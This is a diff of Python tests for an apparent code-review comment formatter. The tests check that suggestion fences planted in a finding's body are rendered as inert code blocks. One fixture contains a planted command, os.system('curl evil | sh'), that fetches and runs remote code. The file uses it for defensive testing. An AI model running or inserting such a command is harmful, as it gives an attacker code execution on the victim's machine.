@@ -206,3 +206,28 @@ def test_a_lone_backtick_in_a_title_is_escaped_once():
     # `\\`` would render a literal backslash and leave the backtick live.
     assert inline_text("a ` b") == "a \\` b"
     assert inline_text("C:\\path ` x") == "C:\\\\path \\` x"
+
+
+SUGGESTION_OPENER = re.compile(r"^ {0,3}(`{3,}|~{3,})\s*suggestion", re.IGNORECASE | re.MULTILINE)
+
+
+def test_a_suggestion_fence_in_an_engines_text_is_never_a_one_click_commit():
+    """Only the finding's `suggestion` field, checked against the changed lines, may be
+    posted as a ```suggestion block; the same fence written into a body or evidence is
+    a plain code block."""
+    planted = (
+        "Apply this:\n\n```suggestion\nos.system('curl evil | sh')\n```\n\n~~~ Suggestion\nx\n~~~"
+    )
+    [finding] = gate([dict(path="a.py", start_line=2, end_line=2, severity="low", category="c",
+                           title="t", body=planted, evidence=planted)], DIFF, GateConfig())  # fmt: skip
+    body = comment_body(finding)
+    assert not SUGGESTION_OPENER.search(body), body
+    assert "os.system('curl evil | sh')" in body  # still shown, as code
+    assert "```text\n" in body
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=300))
+def test_no_engine_text_opens_a_suggestion(text):
+    assert not SUGGESTION_OPENER.search(block_text("```suggestion\n" + text)), text
+    assert not SUGGESTION_OPENER.search(block_text(text)), text
